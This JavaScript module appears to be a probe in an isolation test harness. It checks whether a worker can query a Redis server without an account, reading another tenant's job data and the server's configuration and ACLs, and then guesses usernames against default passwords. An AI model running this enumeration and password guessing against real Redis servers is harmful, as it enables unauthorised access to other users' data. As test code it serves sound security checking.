// The Redis listener, without an account.
import { every, told } from './attack.mjs';
import { open } from './redis.mjs';

if (told.part === 'closed')
  await every('redis.socket', {
    connect: async () => {
      const redis = await open();
      return `connected; PING says ${await redis.send('PING')}`;
    },
  });
else {
  const { namespace, worker, victim } = told;
  const ways = [
    'PING',
    'INFO',
    `HGETALL {${namespace}}:job:${victim.job}`,
    'KEYS *',
    'CONFIG GET *',
    'ACL LIST',
    'HELLO 3',
  ];
  await every(
    'redis.no_account',
    Object.fromEntries(
      ways.map((way) => [way.split(' ')[0], async () => JSON.stringify(await (await open()).send(...way.split(' ')))]),
    ),
  );
  const names = ['default', 'admin', 'root', 'remuda', 'scheduler', `remuda-${worker}`, `remuda-${victim.worker}`];
  const passwords = ['', 'redis', 'remuda', 'password', 'foobared', worker, namespace];
  await every(
    'redis.guessed_account',
    Object.fromEntries(
      names.map((name) => [
        name,
        async () => {
          let last;
          for (const password of passwords) {
            try {
              return `${name}:${password} ${await (await open()).send('AUTH', name, password)}`;
            } catch (error) {
              last = error;
            }
          }
          throw last;
        },
      ]),
    ),
  );
}
process.exit(0);
